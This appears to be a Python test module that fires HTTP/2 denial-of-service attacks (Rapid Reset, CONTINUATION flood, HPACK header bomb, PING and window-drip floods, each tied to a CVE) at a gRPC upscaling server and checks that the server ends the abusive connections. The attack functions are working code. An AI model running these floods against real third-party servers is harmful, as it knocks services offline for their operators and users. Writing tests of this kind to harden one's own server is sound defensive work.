"""Attacks by HTTP/2 frames that are legal one by one."""
import messages
import wire


def rapid_reset(target):
    """10,000 calls a second on one connection, fifty at a time, each reset as soon as it is there
    (CVE-2023-44487)."""
    headers = wire.request_headers(wire.IMAGE)
    start = wire.envelope(messages.image_start())

    def act(connection):
        for _ in target.paced(10_000, 50):
            streams = [connection.new_stream() for _ in range(50)]
            for stream in streams:
                call = wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers)
                connection.send(call, wire.frame(wire.DATA, 0, stream, start))
            connection.reset(*streams)
            connection.poll()
            target.count("resets", 50)

    target.persist(act)


def _refused(target, flags):
    headers = wire.request_headers("/upscale.v1.UpscaleService/None")

    def act(connection):
        for _ in target.paced(10_000, 50):
            streams = [connection.new_stream() for _ in range(50)]
            connection.send(*(wire.frame(wire.HEADERS, flags, stream, headers) for stream in streams))
            while not all(answer.ended for answer in connection.answers.values()):
                connection.poll(1)
            connection.answers.clear()
            target.count("calls", 50)

    target.persist(act)


def refused_calls(target):
    """10,000 calls a second of a method that there is not, each batch after the answers to the last: the connection
    must be ended for it."""
    _refused(target, wire.END_HEADERS | wire.END_STREAM)


def provoked_resets(target):
    """The same of calls that stay open, so that it is the server that resets them (CVE-2025-8671)."""
    _refused(target, wire.END_HEADERS)


def ended_for(offence):
    """A check that the server has ended a connection for this."""
    name = f'upscaled_connections_ended_total{{port="grpc",reason="{offence}"}}'
    return lambda server: [] if server.metrics().get(name) else [f"no connection was ended for {offence}"]


def control_flood(target):
    """50,000 frames a second, of PING, SETTINGS, and PRIORITY for streams that there are not, and their answers
    read (CVE-2019-9512, 9513, 9515)."""
    frames = wire.frame(wire.PING, 0, 0, bytes(8)) + wire.frame(wire.SETTINGS, 0, 0)
    batch = (frames + wire.frame(wire.PRIORITY, 0, 7, bytes((0, 0, 0, 3, 15)))) * 100

    def act(connection):
        for _ in target.paced(50_000, 300):
            connection.send(batch)
            connection.poll()
            target.count("frames", 300)

    target.persist(act)


def unread_pings(target):
    """50,000 PINGs a second whose answers nobody reads: they must not queue up without end."""
    batch = wire.frame(wire.PING, 0, 0, bytes(8)) * 200

    def act(connection):
        for _ in target.paced(50_000, 200):
            connection.send(batch)
            target.count("frames", 200)

    target.persist(act, timeout_s=1)


def continuation_flood(target):
    """A header block that never ends: CONTINUATION after CONTINUATION."""
    fields = wire.literal("x-more", "x" * 4000) * 4

    def act(connection):
        stream = connection.new_stream()
        connection.send(wire.frame(wire.HEADERS, 0, stream, wire.request_headers(wire.IMAGE)))
        for _ in target.paced(20_000, 10):
            connection.send(wire.frame(wire.CONTINUATION, 0, stream, fields) * 10)
            connection.poll()
            target.count("frames", 10)

    target.persist(act)


def header_bomb(target):
    """Header blocks that name one field of 4,000 bytes of the dynamic table 16,000 times each: 64 MB, if it
    is unpacked before it is counted (CVE-2016-6581)."""

    def act(connection):
        for _ in target.paced(200):
            stream = connection.new_stream()
            block = wire.request_headers(wire.IMAGE) + wire.literal("x-bomb", "x" * 3900, 0x40)
            connection.send(wire.frame(wire.HEADERS, 0, stream, block))
            connection.send(wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream, b"\xbe" * 16000))
            connection.poll()
            connection.answers.clear()
            target.count("calls")

    target.persist(act)


def empty_data(target):
    """100,000 empty DATA frames a second on one call (CVE-2019-9518)."""

    def act(connection):
        stream = None
        for _ in target.paced(100_000, 200):
            if stream is None or connection.answers[stream].ended:
                stream = connection.open(wire.IMAGE, messages.image_start())
            connection.send(wire.frame(wire.DATA, 0, stream) * 200)
            connection.poll()
            target.count("frames", 200)

    target.persist(act)


def window_drip(target):
    """100 calls with large results whose window opens by one byte at a time (CVE-2019-9511)."""
    start, image = messages.image_start(scale=8), messages.png(64, 64)

    def parts():
        return start, messages.image_chunk(messages.distinct(image))

    def act(connection):
        connection.send(wire.frame(wire.WINDOW_UPDATE, 0, 0, (1 << 20).to_bytes(4, "big")))
        streams = [connection.open(wire.IMAGE, *parts(), end=True) for _ in range(100)]
        drips = b"".join(wire.frame(wire.WINDOW_UPDATE, 0, s, (1).to_bytes(4, "big")) for s in streams)
        for _ in target.paced(10_000, len(streams)):
            connection.send(drips)
            connection.poll()
            target.count("bytes", len(streams))

    target.persist(act, window=0)
